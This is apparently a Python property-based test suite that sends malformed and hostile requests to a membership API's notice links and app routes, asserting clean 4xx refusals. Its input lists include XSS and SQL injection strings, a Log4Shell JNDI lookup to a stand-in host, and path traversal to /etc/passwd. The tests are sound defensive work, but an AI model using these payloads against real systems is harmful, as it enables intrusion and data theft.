"""Bad input of every kind, sent over real HTTP to the member API of the stack on the local cloud:
forged, altered, truncated, oversized, expired, replayed and wrong-purpose link tokens; choices,
content types and bodies no page sends; JSON no app sends; member ids no member has; hostile
headers; methods the API does not have. Each gets a clear 4xx answer - a page in the member's
language (or the browser's, when the link names nobody) for the links, a JSON error for the apps -
and nothing changes: no item of any table, no email, no billing event."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from urllib.parse import parse_qs, quote_from_bytes, urlencode, urlsplit

import pytest
import requests
from api_support import (
    ACTIVE,
    CANCELLED,
    KEPT,
    LANGUAGES,
    OPEN,
    TIMEOUT,
    WATCHED_AT,
    app_call,
    assert_gateway_refusal,
    assert_json_error,
    assert_page,
    expected_language,
    post_form,
    segment,
)
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from lifecycle.tokens import NOTICE_LINK, LinkSigner, SigningKeys
from tests.stack import FIRST_SWEEP

examples = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])

NOW = FIRST_SWEEP  # the campaign's clock stays at its first sweep
EARLIEST_VIEWING = datetime(1970, 1, 1, tzinfo=UTC)
LANG = {"fr-FR": "fr", "fr-CA": "fr", "de-DE": "de", "es-ES": "es"}
CHOICES = st.sampled_from(["keep", "cancel"])
OPEN_MEMBERS = st.sampled_from(sorted(OPEN))
BROWSER_LANGUAGES = st.sampled_from(
    [None, "fr-FR,fr;q=0.9", "de", "es-MX,es;q=0.8", "ja-JP", "pt-BR,de;q=0.5", "*", "en-GB"]
)
HOSTILE_TEXT = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR '1'='1' --",
    "'; DROP TABLE members; --",
    "{{7*7}}",
    "${jndi:ldap://x.example/a}",
    "../../../../etc/passwd",
    "..",
    ".",
    "\x00",
    "\u202e\u0000\ufeff",
    "%s%s%s%n",
    "a/b",
    "m-open-fr\n",
]
# Path segments sent exactly as written: encoded NUL, traversal, bytes that are not UTF-8, overlong UTF-8.
RAW_SEGMENTS = ["%00", "..%2F..%2Fetc%2Fpasswd", "%2e%2e", "%252e%252e", "%FF%FE", "%C0%AE%C0%AE", "%E0%80%AF", "%0A"]
LATIN_1 = st.characters(codec="latin-1", exclude_characters="\r\n")


def header_value() -> st.SearchStrategy:
    """Header values a client can put on the wire: any latin-1 text, any bytes, hostile text in
    UTF-8; one line, no leading blank."""
    text = st.text(LATIN_1, max_size=300).map(str.lstrip)
    raw = st.binary(max_size=300).filter(lambda b: b"\r" not in b and b"\n" not in b).map(bytes.lstrip)
    hostile = st.sampled_from([text.encode() for text in HOSTILE_TEXT if "\n" not in text]).map(bytes.lstrip)
    return st.one_of(text, raw, hostile)


def token_segments() -> st.SearchStrategy[str]:
    """The last segment of a link's path, as sent: any text, long text, hostile text, raw bytes,
    and raw encodings."""
    return st.one_of(
        st.text(min_size=1, max_size=80).map(segment),
        st.text(st.characters(codec="ascii"), min_size=201, max_size=2000).map(segment),
        st.sampled_from(HOSTILE_TEXT).map(segment),
        st.binary(min_size=1, max_size=80).map(lambda raw: quote_from_bytes(raw, safe="").replace(".", "%2E")),
        st.sampled_from(RAW_SEGMENTS),
    )


def parses_as_a_past_moment(value: object) -> bool:
    """What the activity route accepts as ``watched_at``: an ISO 8601 time with a zone, from 1970
    to now."""
    try:
        moment = datetime.fromisoformat(value)  # type: ignore[arg-type]
        return moment.tzinfo is not None and EARLIEST_VIEWING <= moment.astimezone(UTC) <= NOW
    except (TypeError, ValueError, OverflowError):
        return False


# ------------------------------------------------------------------ link tokens
@examples
@given(token=token_segments(), browser=BROWSER_LANGUAGES, choice=CHOICES)
def test_any_text_as_a_token_opens_the_invalid_link_page_and_changes_nothing(campaign, token, browser, choice):
    # GIVEN the campaign, and a browser with its languages
    before = campaign.world()
    headers = {"Accept-Language": browser} if browser else {}
    # WHEN the "link" is opened, and a choice is posted to it
    opened = requests.get(f"{campaign.api_url}/n/{token}", headers=headers, timeout=TIMEOUT)
    posted = post_form(f"{campaign.api_url}/n/{token}", f"choice={choice}", **headers)
    # THEN both answer the invalid link page, in the browser's language, and nothing changed
    assert_page(opened, 400, expected_language(browser))
    assert_page(posted, 400, expected_language(browser))
    campaign.assert_nothing_changed(before)


@examples
@given(member=OPEN_MEMBERS, choice=CHOICES, data=st.data(), browser=BROWSER_LANGUAGES)
def test_a_link_with_any_one_character_changed_is_refused(campaign, member, choice, data, browser):
    # GIVEN a real link from a notice email, with one character replaced, removed or inserted
    token = campaign.token(member, choice)
    at = data.draw(st.integers(0, len(token)), label="at")
    other = data.draw(st.characters(exclude_categories=["Cs"]), label="character")
    edit = data.draw(st.sampled_from(["replace", "remove", "insert"]), label="edit")
    altered = {
        "replace": token[:at] + other + token[at + 1 :],
        "remove": token[:at] + token[at + 1 :],
        "insert": token[:at] + other + token[at:],
    }[edit]
    assume(altered != token)
    before = campaign.world()
    headers = {"Accept-Language": browser} if browser else {}
    # WHEN it is opened, and its choice posted
    opened = requests.get(campaign.page_url(altered, choice=choice), headers=headers, timeout=TIMEOUT)
    posted = post_form(campaign.page_url(altered), f"choice={choice}", **headers)
    # THEN it is an invalid link (it no longer says whose it is), and nothing changed
    assert_page(opened, 400, expected_language(browser))
    assert_page(posted, 400, expected_language(browser))
    campaign.assert_nothing_changed(before)


@examples
@given(member=OPEN_MEMBERS, choice=CHOICES, data=st.data())
def test_a_truncated_or_extended_link_is_refused(campaign, member, choice, data):
    # GIVEN a real link cut short, or with text added (a link wrapped or joined by a mail client)
    token = campaign.token(member, choice)
    altered = data.draw(
        st.one_of(
            st.integers(1, len(token) - 1).map(lambda end: token[:end]),
            st.text(min_size=1, max_size=300).map(lambda tail: token + tail),
        ),
        label="altered",
    )
    before = campaign.world()
    # WHEN it is opened, and its choice posted
    opened = requests.get(campaign.page_url(altered), timeout=TIMEOUT)
    posted = post_form(campaign.page_url(altered), f"choice={choice}")
    # THEN it is an invalid link, and nothing changed
    assert_page(opened, 400, "en")
    assert_page(posted, 400, "en")
    campaign.assert_nothing_changed(before)


@examples
@given(
    member=OPEN_MEMBERS,
    choice=CHOICES,
    key=st.one_of(st.none(), st.text(min_size=32, max_size=80)),
    purpose=st.one_of(st.just(NOTICE_LINK), st.text(max_size=40)),
    browser=BROWSER_LANGUAGES,
)
def test_a_link_signed_with_another_key_or_for_another_purpose_is_refused(
    campaign, member, choice, key, purpose, browser
):
    # GIVEN a well-formed token naming a real open notice, signed with a key that is not the
    # stack's, or with the stack's key for another purpose (another salt)
    assume(key is not None or purpose != NOTICE_LINK)
    signer = LinkSigner(SigningKeys(key or campaign.signing_key()), purpose=purpose)
    token = signer.sign(campaign.notice_id(member), NOW + timedelta(days=30))
    before = campaign.world()
    headers = {"Accept-Language": browser} if browser else {}
    # WHEN it is opened, and its choice posted
    opened = requests.get(campaign.page_url(token, choice=choice), headers=headers, timeout=TIMEOUT)
    posted = post_form(campaign.page_url(token), f"choice={choice}", **headers)
    # THEN it is an invalid link, in the browser's language, and nothing changed
    assert_page(opened, 400, expected_language(browser))
    assert_page(posted, 400, expected_language(browser))
    campaign.assert_nothing_changed(before)


@examples
@given(
    member=st.one_of(OPEN_MEMBERS, st.text(min_size=1, max_size=40)),
    choice=CHOICES,
    age=st.integers(0, 20 * 365 * 24 * 3600),
    browser=BROWSER_LANGUAGES,
)
def test_an_expired_link_shows_the_expired_page_and_changes_nothing(campaign, member, choice, age, browser):
    # GIVEN a genuine link (the stack's key, its purpose) that expired ``age`` seconds ago,
    # naming an open notice or somebody else
    assume(member in OPEN or member not in {*KEPT, *CANCELLED, ACTIVE})
    known = member in OPEN
    notice_id = campaign.notice_id(member) if known else "n-unknown"
    token = LinkSigner(SigningKeys(campaign.signing_key())).sign(notice_id, NOW - timedelta(seconds=age))
    before = campaign.world()
    headers = {"Accept-Language": browser} if browser else {}
    # WHEN it is opened, and its choice posted
    opened = requests.get(campaign.page_url(token, choice=choice), headers=headers, timeout=TIMEOUT)
    posted = post_form(campaign.page_url(token), f"choice={choice}", **headers)
    # THEN both say the link expired, in the member's language (the browser's when it names
    # nobody), and nothing changed
    lang = LANG[OPEN[member]] if known else expected_language(browser)
    assert_page(opened, 410, lang)
    assert_page(posted, 410, lang)
    campaign.assert_nothing_changed(before)


@examples
@given(
    member=st.sampled_from(sorted({**KEPT, **CANCELLED})),
    link_choice=CHOICES,
    choice=st.one_of(CHOICES, st.text(max_size=30)),
    browser=BROWSER_LANGUAGES,
)
def test_a_link_replayed_after_the_notice_was_answered_acts_no_more(campaign, member, link_choice, choice, browser):
    # GIVEN the link of a notice the member already answered (kept, or cancelled)
    token = campaign.token(member, link_choice)
    lang = LANG[{**KEPT, **CANCELLED}[member]]
    before = campaign.world()
    headers = {"Accept-Language": browser} if browser else {}
    # WHEN it is opened again with any choice in its query, and a choice is posted again
    opened = requests.get(campaign.page_url(token, choice=choice), headers=headers, timeout=TIMEOUT)
    posted = post_form(campaign.page_url(token), urlencode({"choice": choice}), **headers)
    # THEN the page says what happened (a post without a valid choice is a bad request), in the
    # member's language, and nothing changed
    assert_page(opened, 409, lang)
    assert_page(posted, 409 if choice in ("keep", "cancel") else 400, lang)
    campaign.assert_nothing_changed(before)


# ----------------------------------------------------------- choices and forms
@examples
@given(member=OPEN_MEMBERS, choice=st.one_of(st.text(max_size=200), st.sampled_from(HOSTILE_TEXT)))
def test_any_choice_in_a_links_query_only_shows_the_page(campaign, member, choice):
    # GIVEN an open notice's link with any ``choice`` in its query
    before = campaign.world()
    # WHEN it is opened
    opened = requests.get(campaign.page_url(campaign.token(member), choice=choice), timeout=TIMEOUT)
    # THEN the notice's page shows its two choices, in the member's language, and nothing changed
    assert_page(opened, 200, LANG[OPEN[member]])
    assert 'name="choice"' in opened.text
    campaign.assert_nothing_changed(before)


def _one_valid_choice(body: str) -> bool:
    if body.count("&") + 1 > 10:  # more fields than the page's form could send
        return False
    return parse_qs(body).get("choice") in (["keep"], ["cancel"])


FORM_BODIES = st.one_of(
    st.dictionaries(st.text(max_size=20), st.text(max_size=40), max_size=5).map(urlencode),
    st.lists(st.sampled_from(["choice=keep", "choice=cancel", "other=1", "choice="]), min_size=1, max_size=14).map(
        "&".join
    ),
    st.text(max_size=300),
    st.sampled_from(["choice=%FF", "choice=k%00eep", "choice=KEEP", "choice=cancel%0A", "choice[]=cancel"]),
)


@examples
@given(member=OPEN_MEMBERS, body=FORM_BODIES)
def test_a_form_without_exactly_one_valid_choice_changes_nothing(campaign, member, body):
    # GIVEN a form post to an open notice's link that is not exactly one choice of keep or cancel
    # (no choice, an unknown one, several, or more fields than the page's form has)
    assume(not _one_valid_choice(body))
    before = campaign.world()
    # WHEN it is posted
    posted = post_form(campaign.page_url(campaign.token(member)), body)
    # THEN the page says the request was not right, in the member's language, and nothing changed
    assert_page(posted, 400, LANG[OPEN[member]])
    campaign.assert_nothing_changed(before)


CONTENT_TYPES = st.one_of(
    st.none(),
    st.sampled_from(
        [
            "application/json",
            "text/plain",
            "multipart/form-data; boundary=x",
            "application/x-www-form-urlencoded-x",
            "application/xml",
            "*/*",
            "",
            "application/x-www-form-urlencode",
        ]
    ),
    st.text(LATIN_1, max_size=60).map(str.lstrip),
)


def _media_type(content_type: str | None) -> str:
    return (content_type or "").split(";")[0].strip().lower()


@examples
@given(member=OPEN_MEMBERS, choice=CHOICES, content_type=CONTENT_TYPES)
def test_a_choice_posted_as_another_content_type_changes_nothing(campaign, member, choice, content_type):
    # GIVEN a valid choice, sent as something other than the page's form
    assume(_media_type(content_type) != "application/x-www-form-urlencoded")
    before = campaign.world()
    headers = {} if content_type is None else {"Content-Type": content_type}
    # WHEN it is posted to an open notice's link
    posted = requests.post(
        campaign.page_url(campaign.token(member)), data=f"choice={choice}".encode(), headers=headers, timeout=TIMEOUT
    )
    # THEN the page says the request was not right, in the member's language, and nothing changed
    assert_page(posted, 400, LANG[OPEN[member]])
    campaign.assert_nothing_changed(before)


def _from_our_page(sec_fetch_site: str | None, origin: str | None, host: str) -> bool:
    """The rule for a form post coming from the page itself: ``Sec-Fetch-Site`` says
    ``same-origin`` (or ``none``); without it, ``Origin`` is absent or names this host."""
    if sec_fetch_site and sec_fetch_site.strip():
        return sec_fetch_site.strip().lower() in ("same-origin", "none")
    if not origin or origin == "null":
        return not origin
    try:
        return urlsplit(origin).netloc.lower() == host.lower()
    except ValueError:
        return False


@examples
@given(
    member=OPEN_MEMBERS,
    choice=CHOICES,
    sec_fetch_site=st.one_of(
        st.none(), st.sampled_from(["cross-site", "same-site", "CROSS-SITE"]), st.text(LATIN_1, max_size=20)
    ),
    origin=st.one_of(
        st.none(),
        st.sampled_from(["null", "https://evil.example", "http://[", "http://127.0.0.1:1", "file://"]),
        st.text(LATIN_1, max_size=40),
    ),
)
def test_a_form_post_from_another_site_changes_nothing(campaign, member, choice, sec_fetch_site, origin):
    # GIVEN a valid choice posted to an open notice's link by another site's page (as the
    # browser's Sec-Fetch-Site and Origin headers tell), or with headers no browser sends
    url = campaign.page_url(campaign.token(member))
    headers = {"Sec-Fetch-Site": sec_fetch_site, "Origin": origin}
    headers = {name: value.lstrip() for name, value in headers.items() if value is not None}
    assume(not _from_our_page(headers.get("Sec-Fetch-Site"), headers.get("Origin"), url.split("/")[2]))
    before = campaign.world()
    # WHEN it is posted
    posted = post_form(url, f"choice={choice}", **headers)
    # THEN the page says the request was not right, in the member's language, and nothing changed
    assert_page(posted, 400, LANG[OPEN[member]])
    campaign.assert_nothing_changed(before)


def _not_utf8(raw: bytes) -> bool:
    try:
        raw.decode("utf-8")
    except UnicodeDecodeError:
        return True
    return False


NOT_UTF8 = st.one_of(
    st.binary(min_size=1, max_size=200).filter(_not_utf8),
    st.sampled_from([b"\xff\xfe", b"\xc0\xae", b"\xed\xa0\x80", b"\x80"]),
)


@examples
@given(member=OPEN_MEMBERS, choice=CHOICES, garbage=NOT_UTF8, before_choice=st.booleans())
def test_a_form_body_that_is_not_utf8_changes_nothing(campaign, member, choice, garbage, before_choice):
    # GIVEN a form body with a valid choice and bytes that are not UTF-8
    body = garbage + f"&choice={choice}".encode() if before_choice else f"choice={choice}&".encode() + garbage
    before = campaign.world()
    # WHEN it is posted to an open notice's link as a form
    posted = post_form(campaign.page_url(campaign.token(member)), body)
    # THEN the page says the request was not right, in the member's language, and nothing changed
    assert_page(posted, 400, LANG[OPEN[member]])
    campaign.assert_nothing_changed(before)


# ---------------------------------------------------------- the apps' JSON body
JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=10), children, max_size=4),
    max_leaves=12,
)
BAD_MOMENTS = st.one_of(
    JSON_VALUES.filter(lambda value: not isinstance(value, str) and value is not None),
    st.text(max_size=60).filter(lambda text: not parses_as_a_past_moment(text)),
    st.datetimes().map(datetime.isoformat),  # no time zone
    st.datetimes(min_value=datetime(2026, 6, 2), timezones=st.just(UTC)).map(datetime.isoformat),  # the future
    st.datetimes(max_value=datetime(1969, 12, 31, 23, 59, 59), timezones=st.just(UTC)).map(datetime.isoformat),
    st.sampled_from(
        [
            "0001-01-01T00:00:00+14:00",  # before the first representable moment, in UTC
            "9999-12-31T23:59:59-14:00",  # after the last
            "0501-10-30T10:30:42+00:00",  # a year that would be stored as "501-..."
            "2026-02-30T00:00:00Z",
            "2026-05-01T25:00:00Z",
            "yesterday",
            "",
            "<script>alert(1)</script>",
        ]
    ),
    st.integers(10_000, 200_000).map(lambda size: "2026-05-01T00:00:00Z" + "x" * size),
)


def _json_text(value: object) -> str:
    return json.dumps(value)


BAD_JSON_BODIES = st.one_of(
    JSON_VALUES.filter(lambda value: not isinstance(value, dict)).map(_json_text),  # not an object; null too
    BAD_MOMENTS.map(lambda moment: _json_text({"watched_at": moment})),
    st.integers(1_000, 200_000).map(lambda depth: "[" * depth + "]" * depth),  # nested too deeply
    st.integers(5_000, 50_000).map(lambda digits: '{"watched_at": ' + "9" * digits + "}"),  # a huge number
    st.text(min_size=1, max_size=200).filter(lambda text: not _is_json_object(text)),
)


def _is_json_object(text: str) -> bool:
    try:
        value = json.loads(text)
    except ValueError:
        return False
    return isinstance(value, dict) and (value.get("watched_at") is None or parses_as_a_past_moment(value["watched_at"]))


@examples
@given(body=BAD_JSON_BODIES)
def test_activity_refuses_any_json_that_is_not_a_past_viewing_and_changes_nothing(campaign, body):
    # GIVEN an active member, and a body no app sends: not an object, a `watched_at` that is not
    # a past ISO 8601 time with a zone, JSON nested too deeply, a huge number, or not JSON at all
    before = campaign.world()
    # WHEN an app posts it as the member's activity
    answered = app_call("POST", campaign.app_url(ACTIVE, "activity"), body.encode(), "application/json")
    # THEN it is refused with a precise JSON error, and nothing changed
    assert_json_error(answered, 400, "invalid_request")
    assert campaign.stack.member(ACTIVE)["last_watched_at"] == WATCHED_AT.strftime("%Y-%m-%dT%H:%M:%SZ")
    campaign.assert_nothing_changed(before)


@examples
@given(garbage=NOT_UTF8, content_type=st.sampled_from(["application/json", "application/json; charset=utf-8"]))
def test_activity_refuses_a_body_that_is_not_utf8(campaign, garbage, content_type):
    # GIVEN bytes that are not UTF-8, around a body that would otherwise be valid
    body = b'{"watched_at": "2026-05-30T00:00:00Z"' + garbage + b"}"
    before = campaign.world()
    # WHEN an app posts them as the member's activity
    answered = app_call("POST", campaign.app_url(ACTIVE, "activity"), body, content_type)
    # THEN it is refused with a precise JSON error, and nothing changed
    assert_json_error(answered, 400, "invalid_request")
    campaign.assert_nothing_changed(before)


@examples
@given(
    # an empty Content-Type never reaches the gateway's signature check (WSGI drops it), so it is not sent here
    content_type=CONTENT_TYPES.filter(lambda value: value is None or value.strip()),
    body=st.sampled_from(["{}", '{"watched_at": "2026-05-30T00:00:00Z"}']),
)
def test_activity_refuses_a_json_body_sent_as_another_content_type(campaign, content_type, body):
    # GIVEN a body that would be a valid viewing, declared as something other than JSON
    assume(_media_type(content_type) != "application/json")
    before = campaign.world()
    # WHEN an app posts it as the member's activity
    answered = app_call("POST", campaign.app_url(ACTIVE, "activity"), body.encode(), content_type)
    # THEN it is refused with a precise JSON error, and nothing changed
    assert_json_error(answered, 400, "invalid_request")
    campaign.assert_nothing_changed(before)


# ------------------------------------------------------------------ member ids
MEMBER_IDS = st.one_of(
    st.text(min_size=1, max_size=60),
    st.sampled_from(HOSTILE_TEXT),
    st.integers(2_000, 2_100).map(lambda size: ("<script>" * size)[:size]),  # about 2 KB
    st.integers(700, 800).map(lambda size: "é€" * size),  # more bytes than a DynamoDB key may have
)
APP_ROUTES = [("GET", "notice"), ("POST", "keep"), ("POST", "rejoin"), ("POST", "activity")]


@examples
@given(member_id=MEMBER_IDS, route=st.sampled_from(APP_ROUTES))
def test_a_member_id_no_member_has_is_not_found_and_changes_nothing(campaign, member_id, route):
    # GIVEN a member id nobody has (hostile text, very long text, a "/" in it...)
    assume(member_id not in {*OPEN, *KEPT, *CANCELLED, ACTIVE})
    before = campaign.world()
    method, action = route
    # WHEN an app calls a route with it, correctly signed
    answered = app_call(method, campaign.app_url(member_id, action))
    # THEN it is a JSON 404 for nobody (an id with "/" in it too: sent as %2F, it stays one
    # segment), and nothing changed: no member was created for it either
    assert_json_error(answered, 404, "member_not_found")
    campaign.assert_nothing_changed(before)


# --------------------------------------------------------------------- headers
@examples
@given(
    member=OPEN_MEMBERS,
    accept_language=header_value(),
    user_agent=header_value(),
    cookie=header_value(),
    referer=header_value(),
)
def test_hostile_headers_never_break_a_page(campaign, member, accept_language, user_agent, cookie, referer):
    # GIVEN request headers with injection strings and bytes that are not UTF-8
    headers = {"Accept-Language": accept_language, "User-Agent": user_agent, "Cookie": cookie, "Referer": referer}
    before = campaign.world()
    # WHEN an open notice's link, and a link that names nobody, are opened with them
    genuine = requests.get(campaign.page_url(campaign.token(member)), headers=headers, timeout=TIMEOUT)
    forged = requests.get(campaign.page_url("not-a-token"), headers=headers, timeout=TIMEOUT)
    # THEN the notice's page is in the member's language whatever the browser says; the invalid
    # link page in one of the pages' languages; and nothing changed
    assert_page(genuine, 200, LANG[OPEN[member]])
    assert_page(forged, 400, LANGUAGES)
    campaign.assert_nothing_changed(before)


# --------------------------------------------------------------------- methods
@pytest.mark.parametrize("method", ["PUT", "PATCH", "DELETE", "OPTIONS", "HEAD"])
def test_a_method_a_link_does_not_take_is_refused_and_changes_nothing(campaign, method):
    # GIVEN an open notice's link
    before = campaign.world()
    # WHEN it is requested with another method than GET or POST
    answered = requests.request(
        method, campaign.page_url(campaign.token("m-open-fr")), data=b"choice=cancel", timeout=TIMEOUT
    )
    # THEN API Gateway refuses it (the API declares GET and POST only) - or, where the template
    # routes every method of a link to the function, the "can't be used this way" page - and
    # nothing changed
    if method == "HEAD":  # an answer without a body
        assert answered.status_code in (403, 405)
    elif answered.status_code == 405:
        assert_page(answered, 405, LANGUAGES)
        assert answered.headers["Allow"] == "GET, POST"
    else:
        assert_gateway_refusal(answered)
    campaign.assert_nothing_changed(before)


@pytest.mark.parametrize(
    ("method", "action"),
    [("POST", "notice"), ("GET", "keep"), ("GET", "rejoin"), ("GET", "activity"), ("DELETE", "activity")],
)
def test_a_method_an_app_route_does_not_take_is_refused_and_changes_nothing(campaign, method, action):
    # GIVEN an active member
    before = campaign.world()
    # WHEN an app calls one of its routes with the wrong method, correctly signed
    answered = app_call(method, campaign.app_url(ACTIVE, action))
    # THEN API Gateway refuses it before any function runs, and nothing changed
    assert_gateway_refusal(answered)
    campaign.assert_nothing_changed(before)
